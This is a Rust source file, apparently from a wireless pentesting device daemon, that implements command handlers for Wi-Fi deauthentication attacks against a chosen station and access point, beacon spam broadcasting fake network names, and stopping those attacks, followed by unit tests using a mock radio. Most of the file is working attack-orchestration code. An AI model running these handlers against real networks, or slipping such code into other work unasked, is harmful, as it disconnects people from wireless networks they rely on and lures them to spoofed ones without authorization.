//! Frame injection commands
//!
//! A plain `DEAUTH_ATTACK` sends one burst and replies when it is done. With
//! a `duration` it becomes a supervised worker that repeats the burst until
//! the time is up or `ATTACK_STOP` arrives. `BEACON_SPAM` always runs as a
//! worker.

use serde_json::{json, Value};
use std::sync::Arc;
use std::time::Duration;
use tokio::time::Instant;

use super::{optional_channel, optional_u64, required_mac, DeviceContext, STOP_GRACE};
use crate::daemon::event::{ActivityKind, ActivityOutcome, CancelToken};
use crate::frame::MacAddress;
use crate::inject::FrameInjector;
use crate::protocol::ResponseEnvelope;
use crate::router::{CommandHandler, Reply};
use crate::state::DeviceMode;
use crate::{MctError, Result, MAX_SSID_LEN};

/// Unspecified reason, class 3 frame from a non-associated station
pub const DEFAULT_REASON: u16 = 7;

const DEAUTH_FAILED: &str = "Deauth transmission failed";

fn busy() -> MctError {
    MctError::Busy("Device busy".to_string())
}

/// Run one burst off the async runtime; the burst sleeps between attempts
async fn deauth_burst(injector: FrameInjector, ap: MacAddress, station: MacAddress, reason: u16) -> bool {
    match tokio::task::spawn_blocking(move || injector.send_deauth(&ap, &station, reason)).await {
        Ok(Ok(())) => true,
        Ok(Err(e)) => {
            log::warn!("Deauth burst failed: {}", e);
            false
        }
        Err(e) => {
            log::error!("Deauth burst task failed: {}", e);
            false
        }
    }
}

struct DeauthJob {
    injector: FrameInjector,
    ap: MacAddress,
    station: MacAddress,
    reason: u16,
    duration: Duration,
    interval: Duration,
}

impl DeauthJob {
    async fn run(self, mut cancel: CancelToken) -> ActivityOutcome {
        let deadline = Instant::now() + self.duration;
        let mut bursts = 0u64;
        let mut failed = 0u64;

        loop {
            if deauth_burst(self.injector.clone(), self.ap, self.station, self.reason).await {
                bursts += 1;
            } else {
                failed += 1;
            }

            if Instant::now() + self.interval >= deadline {
                break;
            }
            tokio::select! {
                _ = tokio::time::sleep(self.interval) => {}
                _ = cancel.cancelled() => return ActivityOutcome::Cancelled,
            }
        }

        if bursts == 0 {
            return ActivityOutcome::Failed(DEAUTH_FAILED.to_string());
        }
        ActivityOutcome::Completed(json!({ "bursts": bursts, "failed": failed }))
    }
}

pub struct DeauthAttack;

#[async_trait::async_trait]
impl CommandHandler for DeauthAttack {
    fn name(&self) -> &'static str {
        "DEAUTH_ATTACK"
    }

    async fn handle(&self, ctx: &Arc<DeviceContext>, params: &Value) -> Result<Reply> {
        let station = required_mac(params, "target")?;
        let ap = required_mac(params, "ap")?;
        let reason = match optional_u64(params, "reason")? {
            None => DEFAULT_REASON,
            Some(reason) => u16::try_from(reason)
                .map_err(|_| MctError::InvalidParameter("Invalid reason".to_string()))?,
        };
        let duration = optional_u64(params, "duration")?.filter(|ms| *ms > 0);

        let lease = ctx.mode.lease(DeviceMode::Attacking).ok_or_else(busy)?;
        log::info!("Deauth {} from {} (reason {})", station, ap, reason);

        let duration = match duration {
            Some(ms) => Duration::from_millis(ms),
            None => {
                ctx.display().show("Deauth burst");
                let sent = deauth_burst(ctx.injector.clone(), ap, station, reason).await;
                drop(lease);
                if !sent {
                    return Ok(Reply::Done(ResponseEnvelope::error(self.name(), DEAUTH_FAILED)));
                }
                return Ok(Reply::Done(ResponseEnvelope::success(
                    self.name(),
                    json!({
                        "message": "Deauth sent",
                        "target": station,
                        "ap": ap,
                        "reason": reason,
                    }),
                )));
            }
        };

        let job = DeauthJob {
            injector: ctx.injector.clone(),
            ap,
            station,
            reason,
            duration,
            interval: Duration::from_millis(ctx.config.timing.deauth_interval_ms.max(1)),
        };
        let info = ctx
            .activities
            .spawn(ActivityKind::Deauth, self.name(), lease, true, move |cancel| job.run(cancel))?;

        Ok(Reply::Done(ResponseEnvelope::success(
            self.name(),
            json!({
                "message": "Deauth attack started",
                "target": station,
                "ap": ap,
                "reason": reason,
                "duration": duration.as_millis() as u64,
                "activity": info.id.to_string(),
            }),
        )))
    }
}

fn ssid_list(params: &Value) -> Result<Vec<String>> {
    let invalid = || MctError::InvalidParameter("Missing ssids".to_string());
    let list = params.get("ssids").and_then(Value::as_array).ok_or_else(invalid)?;

    let mut ssids = Vec::with_capacity(list.len());
    for entry in list {
        let ssid = entry
            .as_str()
            .ok_or_else(|| MctError::InvalidParameter("SSIDs must be strings".to_string()))?;
        if ssid.len() > MAX_SSID_LEN {
            log::debug!("SSID '{}' will be clamped to {} bytes", ssid, MAX_SSID_LEN);
        }
        ssids.push(ssid.to_string());
    }
    if ssids.is_empty() {
        return Err(invalid());
    }
    Ok(ssids)
}

pub struct BeaconSpam;

#[async_trait::async_trait]
impl CommandHandler for BeaconSpam {
    fn name(&self) -> &'static str {
        "BEACON_SPAM"
    }

    async fn handle(&self, ctx: &Arc<DeviceContext>, params: &Value) -> Result<Reply> {
        let ssids = ssid_list(params)?;
        let interval = Duration::from_millis(
            optional_u64(params, "interval")?.unwrap_or(ctx.config.timing.beacon_interval_ms),
        );
        let channel = optional_channel(params)?;

        let lease = ctx.mode.lease(DeviceMode::BeaconSpam).ok_or_else(busy)?;
        if let Some(channel) = channel {
            ctx.engine.radio().set_channel(channel)?;
        }
        let channel = ctx.engine.channel();

        let count = ssids.len();
        let injector = ctx.injector.clone();
        let info = ctx.activities.spawn(
            ActivityKind::BeaconSpam,
            self.name(),
            lease,
            true,
            move |mut cancel| async move {
                let mut sent = 0u64;
                let mut failed = 0u64;
                for (n, ssid) in ssids.iter().enumerate() {
                    if cancel.is_cancelled() {
                        return ActivityOutcome::Cancelled;
                    }
                    match injector.send_beacon(ssid, channel) {
                        Ok(()) => sent += 1,
                        Err(e) => {
                            log::debug!("Beacon for '{}' failed: {}", ssid, e);
                            failed += 1;
                        }
                    }
                    if n + 1 < ssids.len() && !interval.is_zero() {
                        tokio::select! {
                            _ = tokio::time::sleep(interval) => {}
                            _ = cancel.cancelled() => return ActivityOutcome::Cancelled,
                        }
                    }
                }
                if sent == 0 {
                    return ActivityOutcome::Failed("Beacon transmission failed".to_string());
                }
                ActivityOutcome::Completed(json!({ "beacons_sent": sent, "failed": failed }))
            },
        )?;

        Ok(Reply::Done(ResponseEnvelope::success(
            self.name(),
            json!({
                "message": "Beacon spam started",
                "count": count,
                "channel": channel,
                "activity": info.id.to_string(),
            }),
        )))
    }
}

pub struct AttackStop;

#[async_trait::async_trait]
impl CommandHandler for AttackStop {
    fn name(&self) -> &'static str {
        "ATTACK_STOP"
    }

    async fn handle(&self, ctx: &Arc<DeviceContext>, _params: &Value) -> Result<Reply> {
        let stopped = ctx
            .activities
            .stop(&[ActivityKind::Deauth, ActivityKind::BeaconSpam], STOP_GRACE)
            .await
            .ok_or_else(|| MctError::Protocol("No attack running".to_string()))?;

        Ok(Reply::Done(ResponseEnvelope::success(
            self.name(),
            json!({
                "message": "Attack stopped",
                "activity": stopped.id.to_string(),
                "kind": stopped.kind,
            }),
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::handlers::tests::{context_with_radio, decode};
    use crate::inject::DEAUTH_FRAME_LEN;
    use crate::protocol::{OutboundMessage, Status};
    use tokio::sync::mpsc;

    const AP: &str = "AA:AA:AA:AA:AA:AA";
    const STA: &str = "BB:BB:BB:BB:BB:BB";

    async fn run(handler: &dyn CommandHandler, ctx: &Arc<DeviceContext>, params: Value) -> Result<ResponseEnvelope> {
        match handler.handle(ctx, &params).await? {
            Reply::Done(response) => Ok(response),
            other => panic!("expected a single response, got {:?}", other),
        }
    }

    async fn next_notification(rx: &mut mpsc::UnboundedReceiver<OutboundMessage>) -> Value {
        loop {
            let message = tokio::time::timeout(Duration::from_secs(5), rx.recv())
                .await
                .unwrap()
                .unwrap();
            if let OutboundMessage::Notify(_) = message {
                return decode(&message);
            }
        }
    }

    async fn wait_idle(ctx: &DeviceContext) {
        for _ in 0..200 {
            if ctx.mode.is_idle() && ctx.activities.current().is_none() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        panic!("device did not return to idle");
    }

    #[tokio::test]
    async fn test_single_burst() {
        let (radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);

        let response = run(&DeauthAttack, &ctx, json!({"target": STA, "ap": AP})).await.unwrap();
        assert_eq!(response.status, Status::Success);
        assert_eq!(response.data.unwrap()["reason"], 7);
        assert!(ctx.mode.is_idle());

        let sent = radio.transmitted();
        assert_eq!(sent.len(), 5);
        assert!(sent.iter().all(|f| f.len() == DEAUTH_FRAME_LEN && f[0] == 0xC0));
        assert_eq!(&sent[0][4..10], &[0xBB; 6]);
        assert_eq!(&sent[0][10..16], &[0xAA; 6]);
    }

    #[tokio::test]
    async fn test_failed_burst_reports_error() {
        let (radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);
        radio.fail_next_transmits(1);

        let response = run(&DeauthAttack, &ctx, json!({"target": STA, "ap": AP, "reason": 1}))
            .await
            .unwrap();
        assert_eq!(response.status, Status::Error);
        assert_eq!(response.error.as_deref(), Some(DEAUTH_FAILED));
        // every attempt is still made
        assert_eq!(radio.transmitted().len(), 4);
        assert!(ctx.mode.is_idle());
    }

    #[tokio::test]
    async fn test_deauth_parameter_errors() {
        let (_radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);

        assert!(run(&DeauthAttack, &ctx, json!({"ap": AP})).await.is_err());
        assert!(run(&DeauthAttack, &ctx, json!({"target": "nope", "ap": AP})).await.is_err());
        assert!(run(&DeauthAttack, &ctx, json!({"target": STA, "ap": AP, "reason": 70000}))
            .await
            .is_err());
        assert!(ctx.mode.is_idle());
    }

    #[tokio::test]
    async fn test_busy_when_not_idle() {
        let (_radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);
        assert!(ctx.mode.try_enter(DeviceMode::Monitoring));

        let err = run(&DeauthAttack, &ctx, json!({"target": STA, "ap": AP})).await.unwrap_err();
        assert!(matches!(err, MctError::Busy(_)));
        let err = run(&BeaconSpam, &ctx, json!({"ssids": ["a"]})).await.unwrap_err();
        assert!(matches!(err, MctError::Busy(_)));
        assert_eq!(ctx.mode.current(), DeviceMode::Monitoring);
    }

    #[tokio::test]
    async fn test_timed_attack_can_be_stopped() {
        let (radio, ctx, mut rx) = context_with_radio();
        let ctx = Arc::new(ctx);

        let response = run(
            &DeauthAttack,
            &ctx,
            json!({"target": STA, "ap": AP, "duration": 60_000}),
        )
        .await
        .unwrap();
        assert_eq!(response.data.unwrap()["message"], "Deauth attack started");
        assert_eq!(ctx.mode.current(), DeviceMode::Attacking);

        // the loop stays responsive while the attack runs
        let err = run(&BeaconSpam, &ctx, json!({"ssids": ["x"]})).await.unwrap_err();
        assert!(matches!(err, MctError::Busy(_)));

        tokio::time::sleep(Duration::from_millis(20)).await;
        let stopped = run(&AttackStop, &ctx, json!({})).await.unwrap();
        assert_eq!(stopped.data.unwrap()["kind"], "deauth");
        assert!(ctx.mode.is_idle());
        assert!(!radio.transmitted().is_empty());

        let note = next_notification(&mut rx).await;
        assert_eq!(note["cmd"], "DEAUTH_ATTACK");
        assert_eq!(note["data"]["state"], "cancelled");
    }

    #[tokio::test]
    async fn test_timed_attack_completes() {
        let (_radio, ctx, mut rx) = context_with_radio();
        let ctx = Arc::new(ctx);

        run(&DeauthAttack, &ctx, json!({"target": STA, "ap": AP, "duration": 30}))
            .await
            .unwrap();
        let note = next_notification(&mut rx).await;
        assert_eq!(note["status"], "success");
        assert_eq!(note["data"]["state"], "completed");
        assert!(note["data"]["bursts"].as_u64().unwrap() >= 1);
        wait_idle(&ctx).await;
    }

    #[tokio::test]
    async fn test_beacon_spam() {
        let (radio, ctx, mut rx) = context_with_radio();
        let ctx = Arc::new(ctx);

        let response = run(
            &BeaconSpam,
            &ctx,
            json!({"ssids": ["Free WiFi", "Airport"], "channel": 11, "interval": 1}),
        )
        .await
        .unwrap();
        let data = response.data.unwrap();
        assert_eq!(data["count"], 2);
        assert_eq!(data["channel"], 11);

        let note = next_notification(&mut rx).await;
        assert_eq!(note["cmd"], "BEACON_SPAM");
        assert_eq!(note["data"]["beacons_sent"], 2);
        wait_idle(&ctx).await;

        let sent = radio.transmitted();
        assert_eq!(sent.len(), 2);
        assert_eq!(&sent[0][..2], &[0x80, 0x00]);
        assert_eq!(sent[0][37], 9);
        assert_eq!(&sent[0][38..47], b"Free WiFi");
    }

    #[tokio::test]
    async fn test_beacon_spam_validation() {
        let (_radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);
        assert!(run(&BeaconSpam, &ctx, json!({})).await.is_err());
        assert!(run(&BeaconSpam, &ctx, json!({"ssids": []})).await.is_err());
        assert!(run(&BeaconSpam, &ctx, json!({"ssids": [1, 2]})).await.is_err());
        assert!(run(&BeaconSpam, &ctx, json!({"ssids": ["a"], "channel": 30})).await.is_err());
        assert!(ctx.mode.is_idle());
    }

    #[tokio::test]
    async fn test_attack_stop_without_attack() {
        let (_radio, ctx, _rx) = context_with_radio();
        let ctx = Arc::new(ctx);
        let err = run(&AttackStop, &ctx, json!({})).await.unwrap_err();
        assert_eq!(err.to_string(), "Protocol error: No attack running");
    }
}
